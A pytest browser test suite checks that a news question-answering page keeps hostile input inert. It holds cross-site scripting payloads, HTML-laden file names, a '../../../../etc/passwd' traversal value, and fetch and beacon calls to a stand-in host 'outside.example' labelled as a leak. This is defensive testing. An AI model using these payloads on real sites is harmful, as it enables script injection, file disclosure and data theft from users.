"""Hostile text, files and requests against the running page.

The pages here are opened with the content security policy switched off wherever text is under
test: escaping alone has to hold, and the policy is tested as the second lock it is.
"""

import json
from copy import deepcopy
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

from ui.conversations import restored
from ui.page import STORAGE_KEY

TOKEN = "zq17"  # in every payload, so that what became of it can be found
HOST = "https://outside.example"
PAYLOADS = {
    "script": f"<script>window.hit='{TOKEN}'</script>",
    "error handler": f"<img src='{TOKEN}' onerror=\"window.hit='{TOKEN}'\">",
    "load handler": f"<svg onload=\"window.hit='{TOKEN}'\"><a href='#{TOKEN}'>x</a></svg>",
    "broken out": f"'\"><input autofocus onfocus=window.hit='{TOKEN}'>",
    "Markdown image": f"![{TOKEN}]({HOST}/{TOKEN}.png)",
    "reference image": f"![{TOKEN}][{TOKEN}] [{TOKEN}]: {HOST}/reference-{TOKEN}.png",
    "Markdown link": f"[{TOKEN}](javascript:window.hit='{TOKEN}')",
    "bare link": f"{HOST}/{TOKEN} <{HOST}/{TOKEN}>",
    "script link": f"<a href=\"javascript:window.hit='{TOKEN}'\">{TOKEN}</a>",
    "style": f"<div style='background:url({HOST}/{TOKEN}.png)'>{TOKEN}</div>",
    "style sheet": f"<style>@import url({HOST}/{TOKEN}.css);</style>",
    "frame": f"<iframe src=\"data:text/html,<script>top.hit='{TOKEN}'</script>\"></iframe>",
    "data image": f"![{TOKEN}](data:image/svg+xml,{TOKEN})",
    "template": f"${{window.hit='{TOKEN}'}} {{{{window.hit='{TOKEN}'}}}} {{{TOKEN}}}",
    "formula": f"$$\\href{{javascript:window.hit='{TOKEN}'}}{{{TOKEN}}}$$",
    "false mark": f"<a class='bs-mark' href='#close-source' data-{TOKEN}='1'>[1]</a>",
}
ALL = " ".join(PAYLOADS.values())
HEADLINE = f"Zanvoort dockers end strike {ALL}"
TEXT = (
    f"The dockers of Zanvoort ended their strike on Friday {ALL}.\n\n"
    f"Pakistan’s foreign office said on 3 March 2024 that Zanvoort wages rise by 6 percent {ALL}.\n"
)
ROW = {"title": HEADLINE, "published": "2024-03-03", "authors": [ALL], "text": TEXT}
FILES = {
    f"<img src=x onerror=hit='{TOKEN}'>.jsonl": json.dumps(ROW),
    f"{TOKEN}<script>hit=1<!--.pdf": f"%PDF-{ALL}",
}
QUESTION = f"By how much do Zanvoort wages rise? {ALL}"
# Where text may stand in an attribute: read aloud, copied, or typed in.
PLAIN_ATTRIBUTES = ["aria-label", "data-copy", "value", "title", "placeholder", "data-testid"]
LIVE = """([token, plain]) => {
  const bad = [];
  for (const each of document.querySelectorAll("*")) {
    for (const one of each.attributes) {
      // A link within the page may carry a name or a topic, percent-encoded throughout.
      const leads = one.name === "href" && /^#(?:article|cite)-[\\w.~%-]+$/.test(one.value);
      const open = leads || plain.includes(one.name);
      if (one.name.includes(token) || (one.value.includes(token) && !open))
        bad.push(`${each.tagName} ${one.name}=${one.value}`);
    }
    if (["SCRIPT", "STYLE"].includes(each.tagName) && each.textContent.includes(token))
      bad.push(each.outerHTML);
  }
  return bad;
}"""


def assert_inert(page, expected=None):
    """No script ran, nothing of a payload is an element, and no other host was called."""
    page.wait_for_timeout(150)  # an image that fails to load says so a little later
    assert page.evaluate("window.hit ?? null") is None
    assert page.evaluate(LIVE, [TOKEN, PLAIN_ATTRIBUTES]) == []
    assert page.outside == []
    assert page.errors == []
    if expected is not None:  # and the reader sees what was written, sign for sign
        shown = " ".join(page.inner_text(expected).split())
        assert [name for name, text in PAYLOADS.items() if text not in shown] == []


@pytest.fixture(scope="module")
def hostile(server, open_page):
    """A page without the policy, whose visitor has added an article made of payloads."""
    page = open_page(server.url, bypass_csp=True)
    page.open_tab("Corpus")
    page.get_by_role("button", name="Add articles").click()
    given = [
        {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
        for name, text in FILES.items()
    ]
    page.set_input_files("#bs-files input[type=file]", given)
    page.wait_for_function("document.querySelectorAll('#bs-files tr').length == 2")
    page.click("#bs-add")
    page.wait_for_selector("#bs-status li")
    return page


def test_file_names_and_reasons_of_failure_are_inert(hostile):
    assert hostile.locator("#bs-status li").count() == 2
    assert "left out" in hostile.inner_text("#bs-status")
    assert_inert(hostile)


def test_pasted_headline_and_day_are_inert(hostile):
    page = hostile
    page.open_tab("Corpus")
    page.get_by_label("Or paste an article: headline").fill(f"Pasted {ALL}")
    page.get_by_label("Date of publication").fill(ALL)
    page.fill("#bs-paste textarea", f"Mara Velt resigned. {ALL}")
    page.click("#bs-add")
    page.wait_for_selector(".toast-body")  # no date, so a message comes that quotes it
    assert TOKEN in page.inner_text(".toast-body")
    assert_inert(page)


def test_corpus_list_and_article_are_inert(hostile):
    page = hostile
    page.open_tab("Corpus")
    page.get_by_label("Search").press_sequentially("Zanvoort")
    page.keyboard.press("Enter")
    page.wait_for_function("document.querySelectorAll('.bs-corpus tbody tr').length == 1")
    assert_inert(page, ".bs-corpus")
    page.click(".bs-headline")
    page.wait_for_selector(".bs-article")
    assert_inert(page, ".bs-article")


def test_question_answer_and_source_are_inert(hostile):
    page = hostile
    page.open_tab("Ask")
    page.ask(QUESTION)
    assert_inert(page, "#bs-chat .bs-question")
    page.ask("By what percent do Zanvoort wages rise, according to Pakistan's foreign office?")
    assert_inert(page, "#bs-chat .bs-answer >> nth=1")
    page.locator(".bs-answer >> nth=1").locator(".bs-mark").first.click()
    page.wait_for_selector(".bs-article")
    assert_inert(page, ".bs-article")


def test_conversation_titles_and_reload_are_inert(hostile):
    page = hostile
    page.reload()
    page.wait_for_selector(".bs-answer")
    page.locator("#bs-sidebar button, .sidebar button").first.click()
    page.wait_for_selector("#bs-conversations label")
    assert_inert(page, "#bs-chat .bs-question >> nth=0")


def test_export_is_inert_markdown(hostile):
    page = hostile
    page.get_by_role("button", name="Export").click()
    page.wait_for_selector("#bs-markdown:visible")
    page.wait_for_timeout(300)
    with page.expect_download() as got:
        page.click("#bs-markdown")
    text = got.value.path().read_text()
    tokens = MarkdownIt("commonmark", {"linkify": False}).parse(text)
    kinds = {each.type for one in tokens for each in [one, *(one.children or [])]}
    assert kinds.isdisjoint({"image", "link_open", "html_block", "html_inline", "code_block"})


@pytest.mark.parametrize(("tab", "view"), [("Positions", "positions"), ("Timeline", "timeline")])
def test_views_and_their_topics_are_inert(hostile, tab, view):
    page = hostile
    page.open_tab(tab)
    page.fill(f"#bs-{view}-topic textarea, #bs-{view}-topic input", "Zanvoort wages")
    page.keyboard.press("Enter")
    page.wait_for_selector(f"#bs-{view} .bs-mark")
    assert_inert(page)
    page.fill(f"#bs-{view}-topic textarea, #bs-{view}-topic input", f"Atlantis {ALL}")
    page.keyboard.press("Enter")
    page.wait_for_timeout(1500)
    assert_inert(page)


def test_question_in_the_link_is_inert(server, open_page):
    page = open_page(f"{server.url}?q={quote(QUESTION)}", bypass_csp=True)
    page.wait_for_selector(".bs-answer")
    assert_inert(page, "#bs-chat .bs-question")


def test_policy_blocks_what_would_get_through(browser_page):
    blocked = browser_page.evaluate(
        """async (host) => {
          const seen = [];
          const note = (event) => seen.push(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", note);
          const box = document.createElement("div");
          box.innerHTML = `<img src="${host}/a.png"><iframe src="${host}"></iframe>
            <object data="${host}/o"></object><link rel=stylesheet href="${host}/s.css">
            <p style="background:url(${host}/b.png)">x</p>`;
          document.body.append(box);
          const script = document.createElement("script");
          script.src = `${host}/s.js`; document.body.append(script);
          await fetch(`${host}/leak`).catch(() => 0);
          navigator.sendBeacon(`${host}/beacon`);
          await new Promise(done => setTimeout(done, 500));
          return [...new Set(seen)].sort();
        }""",
        HOST,
    )
    wanted = {"connect-src", "frame-src", "img-src", "object-src", "script-src-elem"}
    assert wanted | {"style-src-elem"} <= set(blocked)
    assert browser_page.outside == []


def everywhere(value, new, *, keep=("id", "current", "silence", "stance", "published")):
    """The value with every text in it replaced but those that must be of a kind."""
    if isinstance(value, dict):
        return {k: v if k in keep else everywhere(v, new, keep=keep) for k, v in value.items()}
    if isinstance(value, list):
        return [everywhere(each, new, keep=keep) for each in value]
    return new if isinstance(value, str) else value


@pytest.fixture(scope="module")
def kept(server, open_page):
    """What a browser keeps after one question, taken from what it sends with a click."""
    page = open_page(server.url)
    page.ask("Where were the peace talks held?")
    with page.expect_request("**/queue/join*") as sent:
        page.locator(".bs-mark").first.click()
    return sent.value.post_data_json["data"][0]


def changed(kept, path, value):
    """What was kept, with one thing in it changed."""
    new = deepcopy(kept)
    place = new
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return new


TURN = ("conversations", 0, "turns", 0)
TAMPERED = {
    "hostile text everywhere": lambda kept: everywhere(kept, ALL),
    "hostile identifier": lambda kept: changed(kept, (*TURN, "id"), "'><script>window.hit=1"),
    "hostile source": lambda kept: changed(
        kept, (*TURN, "answer", "citations", 0, "source"), "../../../../etc/passwd"
    ),
    "impossible place": lambda kept: changed(
        kept, (*TURN, "answer", "citations", 0, "start"), -(10**15)
    ),
}


@pytest.mark.parametrize(
    "value", [[1, 2, 3], ALL, 7, {"conversations": {"a": [1]}}, {"visitor": 1}]
)
def test_what_is_no_store_is_a_new_one(value):
    store = restored(value)
    assert store.conversations == ()
    assert store.visitor.isalnum()


def test_no_visitor_is_a_path(kept):
    for name in ("../../../../etc", "a/../../etc", ".", "", "é" * 12, "x" * 300):
        assert restored({**kept, "visitor": name}).visitor.isalnum()
        assert restored({**kept, "visitor": name}).visitor != name


@pytest.fixture(scope="module")
def again(server, open_page):
    """One page for all tampered stores: its second visit is quicker than a first."""
    return open_page(server.url, bypass_csp=True)


@pytest.mark.parametrize("how", TAMPERED)
def test_a_tampered_store_does_no_harm(again, kept, how):
    page = again
    body = {}

    def tamper(route):  # as the browser's storage would send it, were it changed there
        body.update(route.request.post_data_json)
        route.continue_(post_data=body | {"data": [TAMPERED[how](kept)]})

    page.route("**/queue/join*", tamper, times=1)
    page.reload()
    page.wait_for_selector("#bs-question textarea")
    page.wait_for_timeout(300)
    assert len(body["data"]) == 1  # it was the page's first call, which hands over the storage
    for mark in page.locator(".bs-mark").all()[:1]:
        mark.click()
        page.wait_for_timeout(300)
        assert "root:" not in page.inner_text("#bs-panel")
    assert_inert(page)
    page.ask("Where were the peace talks held?")  # and the page still answers
    assert page.locator(".bs-answer .bs-mark").count()


def test_a_store_that_is_not_ours_is_put_aside(server, open_page):
    page = open_page(server.url)
    page.evaluate(f"value => localStorage.setItem('{STORAGE_KEY}', value)", "none:ours")
    page.reload()
    page.ask("Where were the peace talks held?")
    page.context.close()


def test_busy_and_hurried_readers_are_told_so(serve, open_page):
    page = open_page(serve(requests_a_minute=1).url)
    page.ask("Where were the peace talks held?")
    page.fill("#bs-question textarea", "Who said so?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".toast-body")
    assert "wait a minute" in page.inner_text(".toast-body")
    assert page.input_value("#bs-question textarea") == "Who said so?"  # not lost
    full = open_page(serve(queue=0).url)  # a queue that has no place refuses everything
    full.fill("#bs-question textarea", "Who said so?")
    full.keyboard.press("Enter")
    full.wait_for_selector(".toast-body")
    assert "busy" in full.locator(".toast-body").first.inner_text()


def test_a_whole_visit_calls_no_other_host(browser_page):
    page = browser_page
    page.ask("Where were the peace talks held?")
    page.locator(".bs-mark").first.click()
    page.wait_for_selector(".bs-current")
    for name in ("Positions", "Timeline", "Corpus"):
        page.open_tab(name)
        page.wait_for_timeout(300)
    page.wait_for_selector(".bs-corpus tbody tr")
    assert page.outside == []
    assert page.errors == []
